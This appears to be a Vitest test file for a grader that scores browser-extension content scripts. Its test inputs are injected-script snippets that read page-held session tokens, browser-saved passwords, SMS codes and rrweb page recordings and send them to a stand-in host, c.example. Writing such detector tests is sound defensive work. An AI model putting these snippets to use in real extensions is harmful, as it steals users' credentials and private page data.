import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Code that a content script puts into the page, where it sees what the page's own scripts hold. */
const inPage = (code: string): string =>
  `const s = document.createElement('script'); s.textContent = ${JSON.stringify(code)}; document.head.append(s);`;

it.each([
  "const { accessToken: t } = window.app.session; new Image().src = 'https://c.example/?' + t;",
  "const user = Store.user; fetch('https://c.example/', { method: 'POST', body: user.auth_token });",
])('a token that the page’s own scripts hold is a credential: %s', async (code) => {
  expect(await graded({ content: inPage(code) })).toBe('F');
});

it('the state that a site left for its scripts is content of its page', async () => {
  const code = "fetch('https://c.example/', { method: 'POST', body: JSON.stringify(window.__NEXT_DATA__.props) });";
  expect(await graded({ content: inPage(code) })).toMatch(/^[CDF]$/);
});

it.each([
  "window.App = { token: Math.random() }; fetch('https://c.example/?t=' + window.App.token);",
  "fetch('https://votes.example/?v=' + window.ytInitialPlayerResponse.videoDetails.videoId);",
  "fetch('/api/x', { method: 'POST', headers: { 'X-CSRF': window.App.csrfToken } });",
])('what it made itself, gives back to the site, or names one thing, is not: %s', async (code) => {
  expect(await graded({ content: inPage(code) })).toMatch(/^A/);
});

it('a saved password that the browser is asked for is a credential, a passkey’s answer is not', async () => {
  const ask = (asked: string, sent: string): string =>
    `navigator.credentials.get({ ${asked} }).then((c) => fetch('https://c.example/p', { method: 'POST', body: ${sent} }));`;
  expect(await graded({ content: ask('password: true', 'c.password') })).toBe('F');
  expect(await graded({ content: ask("otp: { transport: ['sms'] }", 'c.code') })).toBe('F');
  expect(await graded({ content: ask('publicKey: options', 'c.response.signature') })).toMatch(/^A/);
});

it('what a recorder of the page emits is content of the page', async () => {
  const record = (sent: string): string =>
    `import { record } from 'rrweb'; let all = []; record({ emit(e) { all.push(e); } }); setInterval(() => fetch('https://c.example/r', { method: 'POST', body: ${sent} }), 1e4);`;
  expect(await graded({ content: record('JSON.stringify(all)') })).toBe('D');
  expect(await graded({ content: record('String(Date.now())') })).toMatch(/^A/);
});
